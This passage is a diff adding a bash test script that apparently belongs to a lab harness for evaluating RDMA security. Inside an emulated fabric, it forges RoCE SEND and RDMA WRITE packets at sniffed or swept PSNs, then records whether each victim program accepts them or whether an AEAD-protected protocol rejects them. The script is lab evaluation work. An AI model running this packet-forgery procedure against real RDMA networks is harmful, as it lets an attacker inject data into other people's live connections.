@@ -1,0 +1,109 @@
+# SPDX-License-Identifier: MIT
+# A1 (inject): the attacker on host 3 reads one request's BTH off the bridge,
+# then forges SEND Only packets carrying its own bytes, from the client's
+# address, at the PSN the server expects next (a forward sweep for streaming
+# victims, whose PSN moves on while the attacker works). rxe accepts a packet
+# whose PSN matches; what the victim does with the bytes is the outcome.
+. "$(dirname "${BASH_SOURCE[0]}")/common.bash"
+
+CELL_INJECT_TEXT=INJECTED-BY-ATTACKER
+# rdmasec frame header (seq 1, 16 bytes, FIRST|LAST), forged body and tag:
+# well-formed, so only the AEAD can tell it from a real message.
+CELL_INJECT_FRAME=0000000000000001000000100000030041545441434b45522d4259544553212121$(printf '%030x' 0)
+
+# Streaming victims print nothing of what they receive. rxe's own state
+# shows acceptance: a server QP that expects a PSN its peer never sent has
+# taken that many forged requests (the peer's own later ones are discarded
+# as duplicates, the silent desynchronisation the papers describe).
+_cell_psn_gap() {
+	local q=$((WIRE_QPN)) srv cli rq rqpn sq gap
+	srv=$(grep -m1 "^link $VICTIM_DST_DEV/1 lqpn $q " "$CELL/qps.txt") || { echo "no target QP $WIRE_QPN"; return 1; }
+	rq=$(sed -n 's/.* rq-psn \([0-9]*\).*/\1/p' <<<"$srv") rqpn=$(sed -n 's/.* rqpn \([0-9]*\).*/\1/p' <<<"$srv")
+	cli=$(grep -m1 "^link $VICTIM_SRC_DEV/1 lqpn $rqpn " "$CELL/qps.txt") || { echo "no peer QP $rqpn"; return 1; }
+	sq=$(sed -n 's/.* sq-psn \([0-9]*\).*/\1/p' <<<"$cli")
+	# ib_write_bw's server never sends a request: its next PSN is still the one it told.
+	[ "$VICTIM" = write_bw ] && sq=$((EXCH_PSN))
+	[ -n "$rq" ] && [ -n "$sq" ] || { echo "no PSNs in rdma res"; return 1; }
+	gap=$(((rq - sq) & 0xffffff))
+	[ $gap -ge $((1 << 23)) ] && gap=$((gap - (1 << 24)))
+	if [ $gap -le 0 ]; then echo "target rq-psn $rq, peer sq-psn $sq"; return 1; fi
+	printf 'rdma res: %s QP %s expects PSN %d, its peer sends %d: %d forged %s (%s) accepted' \
+		"$VICTIM_DST_DEV" "$WIRE_QPN" "$rq" "$sq" "$gap" "$([ "$VICTIM" = write_bw ] && echo "RDMA WRITE" || echo SENDs)" \
+		"$CELL_INJECT_TEXT"
+}
+
+cell_inject() {
+	local v=$1 line data=(--data "$CELL_INJECT_TEXT") sweep ap gap note=''
+	# A sweep overtakes a stream only if it is faster: on the emulated fabric
+	# it sends about 7000 packets/s, full-rate ib_send_bw about 9000 (and its
+	# client posts no receives, so its idle direction takes no SEND).
+	if [ "$v" = send_bw ]; then VICTIM_SEND_BW_RATE=2000 note='(client at 2000 msg/s) '; export VICTIM_SEND_BW_RATE; fi
+	victim_start "$v" || { matrix_result inject "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; return; }
+	# ucmatose lives about a second: its first request is as fresh as it gets.
+	case "$v" in
+	naive | rdmasec | ucmatose) victim_wire_bth ;;
+	# ib_write_bw's client QP waits at the PSN the exchange told: one exact WRITE into its buffer.
+	write_bw) victim_exchange && [ -n "$EXCH_RKEY" ] && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN - 1)) ;;
+	*) victim_wire_bth --now ;;
+	esac || { matrix_result inject "$v" error "" "no RoCE request seen on the wire"; victim_stop; return; }
+	case "$v" in
+	naive) sweep=$(((WIRE_PSN + 1) & 0xffffff)):1 ;;
+	write_bw) sweep=$EXCH_PSN:1 data+=(--op write --rkey "$EXCH_RKEY" --va "$EXCH_VA") ;;
+	rdmasec) sweep=$(((WIRE_PSN + 1) & 0xffffff)):1 data=(--data-hex "$CELL_INJECT_FRAME") ;;
+	*) sweep=$(((WIRE_PSN + 1) & 0xffffff)):200000 ;;
+	esac
+	fabric on 3 "$ATK" inject --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
+		--psn-sweep "$sweep" --iface fab3 --sport 4242 "${data[@]}" --json >"$CELL/attack.json" 2>"$CELL/attack.err" &
+	ap=$!
+	# Streaming victims: look at the QPs while the sweep runs (a long sweep
+	# can outlast the victim); the first snapshot with a PSN gap is the proof.
+	gap=''
+	for _ in $(seq 1 24); do
+		kill -0 $ap 2>/dev/null || break
+		case "$v" in naive | rdmasec) ;; *)
+			sleep 0.5
+			cell_qp_snapshot
+			gap=$(_cell_psn_gap) && break
+			gap=''
+			continue
+			;;
+		esac
+		sleep 0.5
+	done
+	kill $ap 2>/dev/null
+	wait $ap
+	echo "inject exit $? (qpn $WIRE_QPN psn $WIRE_PSN sweep $sweep)" >&2
+	victim_attack_done
+	[ -n "$gap" ] || cell_qp_snapshot
+	victim_wait 12
+	case "$v" in
+	naive)
+		if line=$(victim_grep "$VICTIM_SERVER_LOG" "$CELL_INJECT_TEXT"); then
+			matrix_result inject "$v" succeeded "" "[h1] $line"
+		else
+			matrix_result inject "$v" error "" "the forged SEND did not show: $(tail -n 1 "$VICTIM_SERVER_LOG")"
+		fi
+		;;
+	rdmasec)
+		line=$(cell_rdmasec_closed_line)
+		if grep -q 'message authentication failed' <<<"$line"; then
+			matrix_result inject "$v" detected \
+				"per-message AEAD (AES-256-GCM, sequence in nonce): forged frame rejected, counted, connection closed" "$line"
+		elif grep -q ATTACKER "$VICTIM_CLIENT_LOG" "$VICTIM_SERVER_LOG"; then
+			matrix_result inject "$v" succeeded "" "$(victim_grep "$VICTIM_CLIENT_LOG" ATTACKER)"
+		else
+			matrix_result inject "$v" error "" "no close event: $(tail -n 1 "$VICTIM_SERVER_LOG")"
+		fi
+		;;
+	*)
+		if [ -n "$gap" ] || gap=$(_cell_psn_gap); then
+			matrix_result inject "$v" succeeded "" "$note$gap"
+		elif [ "$v" = rping ] && line=$(cell_victim_error_line); then
+			# rping reads its peer's buffer address from each SEND: forged bytes break it.
+			matrix_result inject "$v" succeeded "" "$line (after forged SENDs at its PSN)"
+		else
+			matrix_result inject "$v" error "" "missed: no forged SEND seen accepted while the sweep ran (the bursting PSN was stepped over; $(_cell_psn_gap))"
+		fi
+		;;
+	esac
+}
